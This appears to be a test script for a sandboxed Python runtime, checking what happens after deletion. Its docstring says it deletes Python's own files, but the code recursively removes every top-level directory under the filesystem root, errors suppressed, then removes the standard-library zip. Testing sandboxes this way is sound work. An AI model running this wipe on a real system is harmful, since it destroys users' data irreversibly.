"""Deletes Python's own files."""
# ends: Ran|Ended
import os
import shutil

for name in os.listdir("/"):
    shutil.rmtree(f"/{name}", ignore_errors=True)
for name in ("/lib/python314.zip",):
    try:
        os.remove(name)
    except OSError:
        pass
print(os.listdir("/"))
